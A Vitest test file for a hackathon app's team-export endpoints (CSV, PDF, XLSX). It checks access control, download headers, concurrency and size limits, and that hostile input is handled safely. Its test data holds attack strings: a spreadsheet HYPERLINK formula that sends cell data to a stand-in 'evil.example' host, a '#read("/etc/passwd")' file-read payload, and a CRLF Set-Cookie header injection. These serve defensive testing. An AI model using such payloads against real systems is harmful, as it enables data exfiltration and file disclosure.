// @module-tag spec-2-15
// @module-tag slow
import { deleteEvent } from '@hackon/contract/events/events';
import { exportCsv, exportPdf, exportXlsx } from '@hackon/contract/exports/exports';
import { exportLimits } from '@hackon/contract/exports/limits';
import { decidePayment, type TeamDetail, type TeamFilter, withdrawTeam } from '@hackon/contract/teams/teams';
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import { signUpManager, signUpStudent } from '../../../test/accounts.ts';
import { addStudents } from '../../../test/add-students.ts';
import { createEvent, type NewEventBody } from '../../../test/events.ts';
import { readCsv } from '../../../test/read-csv.ts';
import { readXlsx, unzip } from '../../../test/read-xlsx.ts';
import { memberRow, teamRow } from '../../../test/rows.ts';
import { newMember, type NewTeamBody, registerTeam, startWithEvent } from '../../../test/teams.ts';
import { requestOf, type TestApp } from '../../../test/test-app.ts';
import type { Database } from '../../db/database.ts';
import { transaction } from '../../db/transaction.ts';

// Programs start slowly on a busy machine.
vi.setConfig({ testTimeout: 30_000 });

/** Creates an event with a team per minute. Returns its CSV file as rows. */
async function withTeams(changes: NewTeamBody[], event: NewEventBody = {}) {
  const started = await startWithEvent({ maxTeams: 100, ...event });
  const { app, manager } = started;
  const students = changes.length > 0 ? await addStudents(app, changes.length) : [];
  const teams: TeamDetail[] = [];
  for (const [index, student] of students.entries()) {
    app.clock.advance(60_000);
    teams.push(await registerTeam(app, student, started.event, changes[index]));
  }
  const params = { id: started.event._id };
  const file = (status?: TeamFilter) =>
    app.succeed(exportCsv, { token: manager.token, params, query: status ? { status } : {} });
  const rows = async (status?: TeamFilter) => readCsv(await file(status)).slice(1);
  const decide = (index: number, status: 'verified' | 'rejected', notes?: string) =>
    app.succeed(decidePayment, {
      token: manager.token,
      params: { teamId: teams[index]?._id ?? '' },
      body: { status, ...(notes !== undefined && { notes }) },
    });
  return { ...started, students, teams, params, file, rows, decide };
}

async function insertTeams(db: Database, eventId: string, count: number, members: number) {
  const teams = Array.from({ length: count }, () => teamRow(eventId));
  const people = teams.flatMap((team) =>
    Array.from({ length: members }, (_, position) => memberRow(team, { position })),
  );
  await transaction(db, async (trx) => {
    await trx.insertInto('teams').values(teams).execute();
    await trx.insertInto('members').values(people).execute();
  });
}

async function exportsIn({ db }: TestApp) {
  return db.selectFrom('audit_log').selectAll().where('action', '=', 'teams_exported').execute();
}

describe.each([
  [exportCsv, 'text/csv; charset=utf-8', 'csv'],
  [exportPdf, 'application/pdf', 'pdf'],
  [exportXlsx, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'xlsx'],
])('$method $path', (endpoint, type, format) => {
  test("is for the event's own manager", async () => {
    const { app, params, manager } = await withTeams([]);
    const [student, other] = [await signUpStudent(app), await signUpManager(app)];
    const { token } = manager;
    expect(await app.call(endpoint, { params })).toMatchObject({ status: 401 });
    expect(await app.call(endpoint, { params, token: student.token })).toMatchObject({ status: 403 });
    const notFound = { status: 404, body: { message: 'Event not found', code: 'not_found' } };
    expect(await app.call(endpoint, { params, token: other.token })).toMatchObject(notFound);
    expect(await app.call(endpoint, { params: { id: 'f'.repeat(24) }, token })).toMatchObject(notFound);
    expect(await app.call(endpoint, { params: { id: '42' }, token })).toMatchObject({
      status: 400,
      body: { message: 'Invalid event ID format' },
    });
    const url = endpoint.path.replace(':id', params.id);
    const headers = { authorization: `Bearer ${token}` };
    expect(await app.inject({ method: 'GET', url, query: { status: 'unknown' }, headers })).toMatchObject({
      status: 400,
      body: { code: 'invalid_input' },
    });
    await app.succeed(deleteEvent, { token, params });
    expect(await app.call(endpoint, { params, token })).toMatchObject(notFound);
  });

  test('is a download named after title and status, without caching', async () => {
    const { app, manager, event, params } = await withTeams([{}]);
    const { token } = manager;
    const { status, headers } = await app.call(endpoint, { params, token });
    expect(status).toBe(200);
    expect(headers).toMatchObject({
      'content-type': type,
      'content-disposition': `attachment; filename="Smart Campus Hack-all-teams.${format}"`,
      'cache-control': 'no-store',
    });
    const verified = { params: { id: event.shareLink }, token, query: { status: 'verified' as const } };
    expect((await app.call(endpoint, verified)).headers['content-disposition']).toContain(
      `"Smart Campus Hack-verified-teams.${format}"`,
    );
  });

  test('has a safe name for any title', async () => {
    const { app, manager, params } = await withTeams([], { title: 'AC/DC "लाइव" 🎸\r\nSet-Cookie: a=b' });
    const { headers } = await app.call(endpoint, { params, token: manager.token });
    expect(headers['content-disposition']).toMatch(
      /^attachment; filename="[^"/\\\r\n]*"; filename\*=UTF-8''[^ "]*$/u,
    );
    expect(headers['set-cookie']).toBeUndefined();
  });
});

test('runs two at a time for one manager, without delaying others', async () => {
  const { app, manager, event, params } = await withTeams([]);
  const other = await signUpManager(app);
  const { _id } = await createEvent(app, other, {});
  await insertTeams(app.db, event._id, 13, 50);
  const call = { params, token: manager.token };
  const running = [app.call(exportPdf, call), app.call(exportXlsx, call)];
  await vi.waitFor(async () => expect(await exportsIn(app)).toHaveLength(2), 10_000);
  const others = app.call(exportPdf, { params: { id: _id }, token: other.token });
  for (const endpoint of [exportPdf, exportCsv, exportXlsx]) {
    expect(await app.call(endpoint, call)).toMatchObject({
      status: 429,
      headers: { 'retry-after': '10' },
      body: { message: 'Two of your exports are already being prepared. Please wait for one to finish.' },
    });
  }
  for (const answer of [...running, others]) expect(await answer).toMatchObject({ status: 200 });
  expect(await app.call(exportCsv, call)).toMatchObject({ status: 200 });
});

test('a small file does not wait for the large files of others', async () => {
  const { app, manager, params } = await withTeams([]);
  const order: string[] = [];
  const ask = async (name: string, call: { params: { id: string }; token: string }) => {
    const { status } = await app.call(exportXlsx, call);
    order.push(`${name} ${status}`);
  };
  const large = [];
  for (const name of ['one', 'two']) {
    const other = await signUpManager(app);
    const { _id } = await createEvent(app, other, {});
    await insertTeams(app.db, _id, 13, 50);
    const call = { params: { id: _id }, token: other.token };
    large.push(ask(name, call), ask(name, call));
  }
  await vi.waitFor(async () => expect(await exportsIn(app)).toHaveLength(4), 10_000);
  await ask('small', { params, token: manager.token });
  await Promise.all(large);
  expect(order).toHaveLength(5);
  expect(order.indexOf('small 200')).toBeLessThan(4);
});

test('too many members for a PDF file or a workbook are refused with a message', async () => {
  const { app, manager, params } = await withTeams([{}]);
  const bound: Record<string, number> = exportLimits;
  const spy = vi.spyOn(bound, 'exportMembers', 'get').mockReturnValue(1);
  onTestFinished(() => spy.mockRestore());
  const { token } = manager;
  for (const endpoint of [exportPdf, exportXlsx]) {
    expect(await app.call(endpoint, { params, token })).toMatchObject({
      status: 413,
      body: { code: 'too_large', message: expect.stringContaining('Export the CSV file') },
    });
  }
  expect(await app.call(exportCsv, { params, token })).toMatchObject({ status: 200 });
});

test('aborting an export frees its place', async () => {
  const { app, manager, params } = await withTeams([]);
  const url =
    (await app.app.listen({ port: 0, host: '127.0.0.1' })) + exportPdf.path.replace(':id', params.id);
  const headers = { authorization: `Bearer ${manager.token}` };
  const ask = async (signal = AbortSignal.timeout(20_000)) => {
    const answer = await fetch(url, { headers, signal });
    await answer.arrayBuffer();
    return answer.status;
  };
  const givenUp = new AbortController();
  const waiting = [ask(givenUp.signal), ask(givenUp.signal)].map((answer) => answer.catch(() => 'given up'));
  // An export enters the history once it has its place.
  await vi.waitFor(async () => expect(await exportsIn(app)).toHaveLength(2), 10_000);
  expect(await ask()).toBe(429);
  givenUp.abort();
  expect(await Promise.all(waiting)).toEqual(['given up', 'given up']);
  await vi.waitFor(async () => expect(await ask()).toBe(200), 10_000);
});

describe('GET /api/events/:id/export-csv', () => {
  test("has a row per member, newest team first, with instants in the event's time zone", async () => {
    const { rows, file, decide } = await withTeams([
      {
        teamName: 'Null Pointers',
        members: [newMember('asha'), newMember('ravi')],
        upiTransactionId: '412345678901',
      },
      { teamName: 'Byte Me', members: [newMember('mina')], upiTransactionId: 'CICAgMDw8KqzXw' },
    ]);
    await decide(0, 'verified', 'Seen on the statement\nof the 1st');
    expect(readCsv(await file())[0]).toEqual([
      'Team Name',
      'Payment Status',
      'Transaction ID',
      'Registered At',
      'Verified At',
      'Notes',
      'Role',
      'Name',
      'Email',
      'Register No.',
      'Mobile Number',
      'College',
    ]);
    const rest = ['9876543210', 'Anna University'];
    const byteMe = ['Byte Me', 'Pending', 'CICAgMDw8KqzXw', '2026-12-01 12:02:00 +05:30', '', ''];
    const nullPointers = [
      'Null Pointers',
      'Verified',
      '412345678901',
      '2026-12-01 12:01:00 +05:30',
      '2026-12-01 12:02:00 +05:30',
      'Seen on the statement\nof the 1st',
    ];
    expect(await rows()).toEqual([
      [...byteMe, 'Team Leader', 'mina', 'mina@student.example', 'REG-mina', ...rest],
      [...nullPointers, 'Team Leader', 'asha', 'asha@student.example', 'REG-asha', ...rest],
      [...nullPointers, 'Member', 'ravi', 'ravi@student.example', 'REG-ravi', ...rest],
    ]);
  });

  test('has a cell for every field of a member', async () => {
    const member = newMember('asha');
    const { rows } = await withTeams([{ members: [member] }]);
    expect(await rows()).toEqual([expect.arrayContaining(Object.values(member))]);
  });

  test('has the teams of one payment status, and never a withdrawn one', async () => {
    const { app, rows, decide, students, teams } = await withTeams(
      ['A', 'B', 'C', 'D'].map((teamName) => ({ teamName, members: [newMember(teamName)] })),
    );
    await decide(0, 'verified');
    await decide(1, 'rejected');
    await app.succeed(withdrawTeam, {
      token: students[3]?.token ?? '',
      params: { teamId: teams[3]?._id ?? '' },
    });
    const names = async (status?: TeamFilter) => (await rows(status)).map(([name]) => name);
    expect(await names()).toEqual(['C', 'B', 'A']);
    expect(await names('all')).toEqual(['C', 'B', 'A']);
    expect(await names('verified')).toEqual(['A']);
    expect(await names('rejected')).toEqual(['B']);
    expect(await names('pending')).toEqual(['C']);
    expect(await names('not_required')).toEqual([]);
  });

  test("shows nothing of another event's teams", async () => {
    const { app, manager, rows } = await withTeams([{ teamName: 'Here' }]);
    const other = await createEvent(app, manager, { title: 'Other' });
    await registerTeam(app, await signUpStudent(app), other, { teamName: 'There' });
    expect((await rows()).map(([name]) => name)).toEqual(['Here', 'Here']);
  });

  test('keeps hostile names in their cells, as text', async () => {
    const name = '=HYPERLINK("https://evil.example?"&A1,"Open"), +1';
    const { rows } = await withTeams([{ teamName: name, members: [newMember('asha')] }]);
    const [row = []] = await rows();
    expect(row).toHaveLength(12);
    expect(row[0]).toBe(`'${name}`);
  });
});

test('the workbook has the cells of the CSV file, all as text, without apostrophes', async () => {
  const { app, manager, params, file } = await withTeams([
    {
      teamName: '=1+1 <&> "x"',
      members: [{ ...newMember('asha'), registerNumber: '007' }, newMember('ravi')],
      upiTransactionId: '412345678901',
    },
    { teamName: 'தமிழ் 🚀' },
    { teamName: '_x003D_1+1 __x0041__' },
    { teamName: 'constructor', members: [{ ...newMember('bo'), name: '__proto__' }] },
    { teamName: 'no character: \uFFFD \uFFFE \u{1FFFF}' },
  ]);
  const { rawPayload } = await app.app.inject(requestOf(exportXlsx, { params, token: manager.token }));
  const csv = readCsv(await file()).map((row) => row.map((cell) => cell.replace(/^'/u, '')));
  expect(readXlsx(rawPayload)).toEqual(csv);
});

test('the workbook prints as wide as the paper, with its first row on every page', async () => {
  const { app, manager, params } = await withTeams([{}]);
  const { rawPayload } = await app.app.inject(requestOf(exportXlsx, { params, token: manager.token }));
  const parts = unzip(rawPayload);
  expect(parts.get('xl/workbook.xml')).toContain(
    '<definedName name="_xlnm.Print_Titles" localSheetId="0">Teams!$1:$1</definedName>',
  );
  const sheet = parts.get('xl/worksheets/sheet1.xml') ?? '';
  // Excel calls the file damaged if the order differs.
  expect(sheet).toMatch(/<sheetPr><pageSetUpPr fitToPage="1"\/><\/sheetPr><sheetViews>/u);
  expect(sheet).toMatch(/<pageSetup [^>]*orientation="landscape"[^>]* fitToWidth="1" fitToHeight="0"\/>/u);
});

test('the PDF file is a PDF', async () => {
  const { app, manager, params } = await withTeams([{ teamName: '#read("/etc/passwd")' }]);
  const { rawPayload } = await app.app.inject(requestOf(exportPdf, { params, token: manager.token }));
  expect(rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
  expect(rawPayload.subarray(-6).toString()).toContain('%%EOF');
});
